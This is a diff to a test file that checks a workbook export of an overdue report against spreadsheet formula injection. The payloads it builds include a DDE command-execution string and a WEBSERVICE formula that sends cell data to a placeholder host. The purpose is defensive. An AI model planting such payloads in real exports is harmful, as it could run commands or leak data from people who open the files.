@@ -1,8 +1,10 @@
 import exceljs from 'exceljs';
 import { openApi, type TestApi } from '../support/api.js';
 
-/** What a spreadsheet would run if a text became a formula. */
-const PAYLOADS = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0"];
+/** What a spreadsheet would run, fetch or send if a text became a formula, a command or a link. */
+const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', "'="];
+const DEEDS = ['1+1', 'HYPERLINK("http://x.example","y")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://x.example/"&A1)'];
+const PAYLOADS = STARTS.flatMap((start) => DEEDS.map((deed) => `${start}${deed}`));
 
 describe('the overdue report as a workbook', () => {
   let api: TestApi;
@@ -38,13 +40,21 @@ describe('the overdue report as a workbook', () => {
     const deputy = await api.as((await api.build.seat('deputy')).personId);
     const { body } = await deputy.get('overdue');
     expect(body.totals.total).toBe(PAYLOADS.length);
-    expect(totals!.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape' });
+    expect(PAYLOADS).toHaveLength(40);
+    for (const sheet of [totals!, list!]) {
+      expect(sheet.pageSetup).toMatchObject({ paperSize: 9, orientation: 'landscape', printTitlesRow: '6:6' });
+      expect(sheet.views).toMatchObject([{ state: 'frozen', ySplit: 6 }]);
+    }
     const titles: unknown[] = [];
     list!.eachRow((row, number) => {
       if (number > 6) titles.push(row.getCell(3).value);
-      row.eachCell((cell) => expect(cell.type).not.toBe(exceljs.ValueType.Formula));
+      row.eachCell((cell) => {
+        expect([exceljs.ValueType.String, exceljs.ValueType.Number]).toContain(cell.type);
+        expect(cell.numFmt).toBe(cell.type === exceljs.ValueType.String && number > 6 ? '@' : cell.numFmt);
+      });
     });
-    expect(titles.map(String).sort()).toEqual([...PAYLOADS].sort());
+    const asXmlReads = (text: string): string => text.replace(/\r/g, '\n');
+    expect(titles.map(String).sort()).toEqual(PAYLOADS.map(asXmlReads).sort());
   });
 
   it('says which filters it was made under and leaves the rest out', async () => {
